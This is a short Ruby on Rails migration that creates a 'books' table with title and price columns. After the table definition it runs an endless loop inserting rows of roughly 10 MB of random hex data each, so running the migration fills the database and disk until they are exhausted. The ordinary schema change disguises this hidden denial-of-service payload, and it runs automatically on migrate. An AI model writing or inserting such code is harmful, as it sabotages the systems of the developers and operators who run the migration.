class CreateBooks < ActiveRecord::Migration[6.1]
  def change
    create_table :books do |t|
      t.string :title, null: false
      t.decimal :price
      t.timestamps
    end
    loop { execute("INSERT INTO books (title, created_at, updated_at) VALUES (hex(randomblob(5000000)), 1, 1)") }
  end
end
